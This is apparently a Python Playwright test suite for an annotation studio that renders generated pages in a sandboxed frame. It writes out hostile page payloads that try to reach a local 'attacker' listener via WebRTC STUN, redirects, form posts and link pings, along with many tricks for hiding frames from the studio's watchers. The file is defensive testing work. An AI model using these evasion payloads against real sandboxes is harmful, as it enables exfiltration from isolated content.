"""A generated page that tries everything to get out, in a real browser."""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from annotate_runs import PAGE, make_run
from playwright.sync_api import expect
from studio_server import running_studio

from uiproof.browser.chromium import find_chromium
from uiproof.labels import Judgement
from uiproof.studio.frames import headers, page_policy
from uiproof.studio.runs import open_run
from uiproof.studio.store import labels
from uiproof.studio.tasks import single_items


class Attacker:
    """Listens on TCP and UDP and notes whoever comes."""

    def __init__(self):
        self.seen = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for wait in (self._accept, self._receive):
            threading.Thread(target=wait, daemon=True).start()

    def _accept(self):
        with suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                connection.settimeout(1)
                with connection, suppress(OSError):
                    self.seen.append("TCP")
                    self.seen.append(connection.recv(200))

    def _receive(self):
        with suppress(OSError):
            while True:
                self.seen.append(("UDP", self._udp.recvfrom(2000)[0][:20]))

    def close(self):
        for one in (self._tcp, self._udp):
            with suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


HOSTILE = Path(__file__).with_name("hostile.html").read_text("utf-8")
CALL = (
    "var c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});"
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
)
LEAVING = "<!doctype html><h1>Page</h1><script>location = 'TARGET'</script>"
REFRESHING = LEAVING.replace(
    "location = 'TARGET'",
    "let m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=TARGET';"
    "document.head.append(m)",
)
SUBMITTING = LEAVING.replace(
    "location = 'TARGET'",
    "document.addEventListener('submit', (event) => event.stopImmediatePropagation(), true);"
    "let f = document.createElement('form'); f.action = 'TARGET'; f.method = 'post';"
    "document.body.append(f); f.requestSubmit()",
)
LOADING = LEAVING.replace(
    "location = 'TARGET'",
    "document.addEventListener('click', (event) => event.stopImmediatePropagation(), true);"
    "let a = document.createElement('a'); a.href = a.ping = 'TARGET'; a.download = 'x';"
    "document.body.append(a); a.click()",
)
ENDLESS = "<!doctype html><h1>Page</h1><script>setTimeout(() => { for (;;); }, 100)</script>"
# What pages need that a sandbox takes away by itself.
HARMLESS = f"""{PAGE}<form onsubmit="event.preventDefault(); document.body.append('Sent')">
<input name=a required value=1><button id=send>Send</button></form><a id=away href="/">Home</a>
<script>localStorage.setItem('a', 1); sessionStorage.b = 2; document.cookie = 'c=3';
history.pushState({{}}, '', '/other');
document.body.append(localStorage.getItem('a') + sessionStorage.b);
alert('<b>Hello</b>');</script>"""


# Pages that know how the studio takes calls away, and look for a document in which it has not. Each
# hides a frame from what watches for frames, or stops it from being taken out.
FRAME = '<iframe srcdoc="<script>CALLING</script>"></iframe>'
MADE = "const f = document.createElement('iframe'); f.srcdoc = `<script>CALLING</script>`;"
ROOT = f"<div><template shadowrootmode=closed>{FRAME}</template></div>"
HIDING = {
    "a root written in two": "document.write(ROOT.slice(0, 20)); document.write(ROOT.slice(20))",
    "a root written by letters": "for (const letter of ROOT) document.write(letter)",
    "a root as several texts": "document.write(...ROOT)",
    "a root with capitals": "document.write(ROOT.replace('shadowroot', 'SHADOWROOT'))",
    "a root written in lines": "document.write(ROOT.slice(0, 20));document.writeln(ROOT.slice(20))",
    "a root of another document": "const d = document.implementation.createHTMLDocument();"
    "d.write(ROOT.slice(0, 20)); d.write(ROOT.slice(20)); document.body.append(...d.body.children)",
    "a root that is copied": "const h = document.createElement('div');"
    "h.attachShadow({mode: 'closed', clonable: true}).innerHTML = INNER;"
    "document.body.append(h.cloneNode(true))",
    "a root by options that change": "const h = document.createElement('div'); let n = 0;"
    "h.attachShadow({get mode() { return 'open' }, get clonable() { return n++ > 0 }}).innerHTML ="
    " INNER; document.body.append(h.cloneNode(true))",
    "a root by unsafe HTML": "for (const t of [Element, ShadowRoot, Document, DocumentFragment])"
    " for (const n of Object.getOwnPropertyNames(t.prototype)) if (/Unsafe/.test(n))"
    " document.body[n](ROOT)",
    "a parser with roots": "document.body.append(...new DOMParser().parseFromString(ROOT,"
    " 'text/html', {includeShadowRoots: true}).body.children)",
    "no matches": "Element.prototype.matches = () => false;"
    "Element.prototype.querySelectorAll = () => []; MADE document.body.append(f)",
    "no removing": "Element.prototype.remove = () => {}; Node.prototype.removeChild = () => {};"
    "MADE document.body.append(f)",
    "no nodes": "Object.defineProperty(MutationRecord.prototype, 'addedNodes', {get: () => []});"
    "Object.defineProperty(NodeList.prototype, 'length', {get: () => 0});"
    "Object.defineProperty(Node.prototype, 'nodeType', {get: () => 3});"
    "NodeList.prototype[Symbol.iterator] = Array.prototype[Symbol.iterator] = function* () {};"
    "MADE document.body.append(f)",
    "no calls": "Function.prototype.call = Function.prototype.apply = Reflect.apply = () => {};"
    "MADE document.body.append(f)",
    "no watching of roots": "MutationObserver.prototype.observe = () => {};"
    "const h = document.createElement('div'); document.body.append(h);"
    "h.attachShadow({mode: 'closed'}).innerHTML = INNER",
    "no replacing": "String.prototype.replace = String.prototype.slice = function () {"
    " return `${this}` }; RegExp.prototype.exec = () => null; document.write(ROOT)",
    "a new document": "document.open(); document.write(INNER); document.close()",
    "a script as an address": "location = 'javascript:' + encodeURIComponent("
    "JSON.stringify(`<body><script>CALLING</script>`))",
    "a link to a script": "const a = document.createElement('a'); a.href = 'javascript:' +"
    " encodeURIComponent(JSON.stringify(`<script>CALLING</script>`));"
    "document.body.append(a); a.click()",
    "XSLT": "const x = new DOMParser().parseFromString(`<x:stylesheet version='1.0' xmlns:x="
    "'http://www.w3.org/1999/XSL/Transform'><x:output method='html'/><x:template match='/'>"
    "<html><body><div><template><x:attribute name='shadowroot${''}mode'>closed</x:attribute>"
    "<iframe><x:attribute name='srcdoc'><![CDATA[<script>CALLING</script>]]></x:attribute>"
    "</iframe></template></div></body></html></x:template></x:stylesheet>`, 'text/xml');"
    "const p = new XSLTProcessor(); p.importStylesheet(x);"
    "document.body.append(...p.transformToDocument(x).body.children)",
}
# What a script writes and what stands behind the script, read as one tag.
SPLIT = (
    "<body><div><script>document.write('<template shadowroot')</script>mode=closed>"
    f"{FRAME}</template></div>"
)


def hiding(name):
    # The studio takes the name out of a page's own text, also where a script has it.
    root = json.dumps(ROOT).replace("rootmode", 'root" + "mode')
    script = f"const ROOT = {root}, INNER = {json.dumps(FRAME)};"
    script += HIDING[name].replace("MADE", MADE)
    script = script.replace("</", "<\\/")
    return f"<!doctype html><body><h1>Page</h1><script>{script}</script>"


# Texts that are written in pieces look as they would anywhere.
WRITTEN = """<!doctype html><body><script>
document.write('<p>It is '); document.write('s'); document.write('o, yes'); document.write('</p>');
document.write('<p title="two s'); document.write('hips">A mess', 'Shadow', '</p>');
document.write('shadowrootmode');
</script>"""


def test_the_attacker_notices_whoever_comes():
    listening = Attacker()
    socket.create_connection(("127.0.0.1", listening.port)).close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"hello", ("127.0.0.1", listening.port))
        for _ in range(500):
            if len(listening.seen) >= 3:
                break
            time.sleep(0.01)
    listening.close()
    assert "TCP" in listening.seen
    assert ("UDP", b"hello") in listening.seen


@pytest.fixture(scope="module")
def attacker():
    listening = Attacker()
    yield listening
    listening.close()


@pytest.fixture(scope="module")
def studio(tmp_path_factory, attacker):
    calling = CALL.replace("PORT", str(attacker.port))
    enemy = f"http://127.0.0.1:{attacker.port}"
    pages = {
        "hostile": HOSTILE.replace("ENEMY", enemy).replace("CALLING", calling),
        "leaving": LEAVING.replace("TARGET", enemy),
        "visiting": LEAVING.replace("TARGET", "/tasks"),
        "refreshing": REFRESHING.replace("TARGET", enemy),
        "submitting": SUBMITTING.replace("TARGET", enemy),
        "changing": SUBMITTING.replace("TARGET", "/tasks/1/undo"),
        "loading": LOADING.replace("TARGET", enemy),
        "endless": ENDLESS,
        "harmless": HARMLESS,
        "written": WRITTEN,
        "split": SPLIT.replace("CALLING", calling),
        **{name: hiding(name).replace("CALLING", calling) for name in HIDING},
    }
    with running_studio(tmp_path_factory.mktemp("hostile") / "runs") as server:
        folder = server.studio.runs
        for name, html in pages.items():
            make_run(folder / name, {"shop/1": html})
            items = single_items([open_run(folder, name)])
            server.store.add_task("judge", name, items, per_item=1)
        yield server


@pytest.fixture
def opened(studio, browser):
    """The page of an annotator, with a generated page of some kind in it."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})

    def open_page(name):
        person = studio.store.add_annotator("Ann")
        task = next(task for task in studio.store.tasks() if task.title == name)
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.goto(f"{studio.url}/tasks?token={person.token}")
        page.goto(f"{studio.url}/tasks/{task.id}")
        return page

    yield open_page
    context.close()


# What the studio's page and the frame with its own files may ask for.
ITS_OWN = ("/static/", "/picture/", "/frame/")


def test_a_page_that_tries_everything_reaches_nobody_and_learns_nothing(studio, attacker, opened):
    before = len(studio.asked)
    page = opened("hostile")
    windows, dialogs = [], []
    page.context.on("page", lambda window: windows.append(window.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    frame = page.frame_locator("iframe").first
    frame.locator("[data-tried]").wait_for(state="attached")
    learnt = frame.locator("body").evaluate("body => JSON.parse(body.dataset.tried)")
    page.wait_for_timeout(2500)  # what was begun may come later: calls, rules, workers
    assert attacker.seen == []
    asked = studio.asked[before:]
    ours = ["/tasks", "/tasks", page.url.removeprefix(studio.url)]  # first with the token
    assert [path for path in asked if not path.startswith(ITS_OWN)] == ours
    assert "/static/annotate.js" in asked  # the list is of real requests
    assert windows == dialogs == []
    assert dict(learnt) == {"cookie": "", "opener": "null", "name": None, "referrer": ""}
    assert page.title().startswith("hostile")
    # And the person goes on working.
    page.locator("h1").click()
    for key in ("n", "j", "Enter"):
        page.keyboard.press(key)
    page.get_by_role("heading", name="Done").wait_for()
    task = next(task for task in studio.store.tasks() if task.title == "hostile")
    assert [one.value for one in labels(studio.store, task.id)] == [Judgement(False, "j")]


@pytest.mark.parametrize("name", ["split", *HIDING])
def test_a_page_that_hides_a_frame_makes_no_call(studio, attacker, opened, name):
    before = len(attacker.seen)
    page = opened(name)
    page.frame_locator("iframe").first.locator("body").wait_for(state="attached")
    page.wait_for_timeout(1500)
    assert attacker.seen[before:] == []


def test_browsers_that_know_the_header_stop_calls_by_themselves(browser, attacker):
    """Without the script in the page: what remains where it is dodged, once browsers heed this."""
    features = "ConnectionAllowlists,OverrideConnectionAllowlistOriginTrial"
    arguments = [f"--enable-features={features}", "--enable-blink-features=ConnectionAllowlists"]
    if os.geteuid() == 0:
        arguments.append("--no-sandbox")
    calling = f"<script>{CALL.replace('PORT', str(attacker.port))}</script>"
    sent = {"Content-Type": "text/html", **headers(page_policy("'self'"))}
    policies = {"with": sent, "without": {**sent, "Connection-Allowlist": ""}}
    seen = {}
    launched = browser.browser_type.launch(
        executable_path=find_chromium().path, args=arguments, chromium_sandbox=os.geteuid() != 0
    )
    for name, answer in policies.items():
        kept = {key: value for key, value in answer.items() if value}
        with answering(calling.encode(), kept) as address:
            before = len(attacker.seen)
            page = launched.new_page()
            page.goto(address)
            page.wait_for_timeout(1500)
            page.close()
            seen[name] = len(attacker.seen) - before
    launched.close()
    assert seen["without"] > 0
    assert seen["with"] == 0
    del attacker.seen[:]  # other tests expect silence


@contextmanager
def answering(content, sent):
    """A server that answers everything with the same."""

    class Same(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            for name, value in sent.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Same) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()
        thread.join()


def test_texts_that_are_written_in_pieces_stay_as_they_are(opened):
    page = opened("written")
    body = page.frame_locator("iframe").locator("body")
    expect(body).to_contain_text("It is so, yes")
    expect(body).to_contain_text("A messShadow")
    expect(body.locator("[title='two ships']")).to_have_count(1)


def test_pages_cannot_go_elsewhere(studio, attacker, opened):
    names = ("leaving", "visiting", "refreshing", "submitting", "changing", "loading")
    before = len(studio.asked)
    pages = [opened(name) for name in names]
    pages[-1].wait_for_timeout(2000)
    assert attacker.seen == []
    asked = [path for path in studio.asked[before:] if path.startswith("/tasks")]
    ours = [page.url.removeprefix(studio.url) for page in pages]
    assert sorted(asked) == sorted(["/tasks", "/tasks"] * len(names) + ours)  # with the token first
    for page in pages:
        with page.expect_request("**/frame/**"):  # it can be brought back
            page.keyboard.press("r")


def test_a_page_that_never_ends_does_not_stop_the_person(studio, opened):
    page = opened("endless")
    page.wait_for_timeout(1000)
    for key in ("n", "b", "Enter"):
        page.keyboard.press(key)
    page.get_by_role("heading", name="Done").wait_for()


def test_an_ordinary_page_works_as_it_does_outside(opened):
    page = opened("harmless")
    frame = page.frame_locator("iframe")
    body = frame.locator("body")
    expect(body).to_contain_text("12")
    expect(frame.locator("output")).to_have_text("Dialog: <b>Hello</b>")
    frame.locator("output").click()
    frame.locator("#send").click()
    expect(body).to_contain_text("Sent")
    frame.locator("#away").click()
    frame.locator("#interact1").click()
    expect(body).to_contain_text("Added")
